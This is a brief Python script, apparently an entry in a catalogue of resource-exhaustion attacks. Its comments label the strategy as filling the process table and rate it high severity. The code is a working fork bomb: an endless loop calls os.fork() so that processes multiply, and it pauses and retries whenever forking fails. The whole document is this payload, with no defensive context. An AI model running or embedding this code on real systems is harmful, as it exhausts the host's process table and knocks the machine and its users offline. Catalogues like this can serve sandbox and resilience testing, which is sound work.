# Strategy: fills the process table
# Surface: resources.
# Severity: high.
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(9)
